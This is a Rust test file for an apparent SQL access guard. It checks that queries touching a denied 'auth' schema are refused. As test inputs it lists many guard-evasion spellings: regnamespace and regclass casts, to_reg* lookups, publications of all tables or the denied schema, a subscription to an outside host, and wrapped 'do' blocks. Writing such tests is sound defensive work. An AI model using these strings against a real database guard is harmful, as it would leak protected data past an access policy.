#[wasm_bindgen_test(unsupported = test)]
fn schema_named_by_an_object_identifier_constant_is_refused() {
    let p = guarded();
    // Control: the regclass cast was already read.
    assert_eq!(refused(&p, 0, "select 'auth.users'::regclass"), (403, "sql_not_allowed"));
    all_refused(
        &p,
        &[
            (0, "select 'auth'::regnamespace"),
            (0, "select 'AUTH'::pg_catalog.regnamespace"),
            (0, "select '\"auth\"'::regnamespace"),
            (0, "select cast('auth' as regnamespace)"),
            (0, "select ('auth')::regnamespace"),
            (0, "select 'auth'::text::regnamespace"),
            (0, "select cast(cast('auth.users' as text) as regclass)"),
            (0, "select 'auth.uid'::regproc"),
            (0, "select 'auth.uid()'::regprocedure"),
            (0, "select 'public.f(auth.t)'::regprocedure"),
            (0, "select 'auth.t'::regtype"),
            (0, "select $$auth$$::regnamespace::oid"),
            (0, "select regnamespace 'auth'"),
            (0, "select pg_catalog.regclass 'auth.users'"),
            (0, "select 'auth.users'::character varying(40)::regclass"),
            (0, "select '{public.orders,auth.users}'::regclass[]"),
            (0, "select '{public,\"auth\"}'::regnamespace[]"),
            (0, "select 'auth.===(int4,int4)'::regoperator"),
            (0, "select relname from pg_class where relnamespace = 'auth'::regnamespace"),
            (0, "select to_regclass('auth.users')"),
            (0, "select to_regnamespace('auth')"),
            (0, "select to_regproc('auth.uid')"),
            (0, "select to_regprocedure('auth.uid()')"),
            (0, "select pg_catalog.to_regtype('vault.secret')"),
            (1, "do $$ begin perform 'auth'::regnamespace; end $$"),
        ],
    );
    for sql in [
        "select 'public.orders'::regclass",
        "select 'public'::regnamespace",
        "select to_regclass('orders')",
        "select c.oid::regclass, c.relnamespace::regnamespace from pg_class c",
        "select 'auth'::text",
    ] {
        assert_eq!(refused(&p, 0, sql), (200, "access_full"), "{sql}");
    }
}

/// A publication sends its tables' rows to every subscriber: one of a denied schema's tables,
/// of the schema (`TABLES IN SCHEMA`), or of every table (`ALL TABLES`) reaches that schema. A
/// subscription writes the rows of a publication elsewhere into the tables of the same names,
/// whatever their schema. The grammar does not parse them: an agent with `allow_unparsed`.
#[wasm_bindgen_test(unsupported = test)]
fn publication_of_a_denied_schema_is_refused() {
    let p = policy(
        &[("loose", r#""access":{"database":"full"},"sql":{"allow_unparsed":true,"deny_schemas":["auth"]}"#)],
        "enforce",
    );
    // Control: a table of the schema, named.
    assert_eq!(refused(&p, 0, "create publication p for table auth.users"), (403, "sql_not_allowed"));
    all_refused(
        &p,
        &[
            (0, "create publication p for all tables"),
            (0, "CREATE PUBLICATION p FOR ALL TABLES WITH (publish = 'insert')"),
            (0, "create publication p for all sequences"),
            (0, "create publication p for tables in schema auth"),
            (0, "create publication p for tables in schema public, auth"),
            (0, "create publication p for table public.orders, tables in schema auth"),
            (0, "alter publication p add tables in schema auth"),
            (0, "alter publication p set tables in schema auth"),
            (0, "create subscription s connection 'host=elsewhere dbname=postgres' publication p"),
            (0, "alter subscription s refresh publication"),
            (0, "alter subscription s set publication p"),
            (0, "do $$ begin execute 'create publication p for all tables'; end $$"),
        ],
    );
    for sql in ["create publication p for table public.orders", "alter publication p add table public.items"] {
        assert_eq!(refused(&p, 0, sql), (200, "access_full"), "{sql}");
    }
}

/// Review: ordinary SQL near the new rules (object identifier casts, dblink connection strings
/// whose values hold the word `service`, a column named `service`) still passes.
#[wasm_bindgen_test(unsupported = test)]
fn review_ordinary_sql_near_the_new_rules_passes() {
    let p = guarded();
    for sql in [
        "select 'integer'::regtype",
        "select 'numeric(10,2)'::regtype, 'public.orders'::regclass",
        "select c.oid::regclass, n.nspname::regnamespace from pg_class c join pg_namespace n on n.oid = c.relnamespace",
        "select to_regclass('public.orders')",
        "select * from dblink('dbname=service_db host=h user=service', 'select 1') as t(x int)",
        "select service, count(*) from orders group by service",
        "update orders set service = 'x' where id = 1",
    ] {
        assert_eq!(refused(&p, 0, sql).0, 200, "{sql}: {:?}", refused(&p, 0, sql));
    }
}

/// Review: object identifier casts of a denied schema, in the spellings PostgreSQL reads alike.
#[wasm_bindgen_test(unsupported = test)]
fn review_object_identifier_spellings_of_a_denied_schema_are_refused() {
    let p = guarded();
    for sql in [
        "select 'AUTH'::regnamespace",
        "select '\"auth\"'::regnamespace",
        "select 'auth'::pg_catalog.regnamespace",
        "select to_regnamespace('auth')",
        "select 'auth.uid'::regproc",
        "select 'Auth.Users'::regclass",
    ] {
        assert_eq!(refused(&p, 0, sql).0, 403, "{sql}");
    }
}
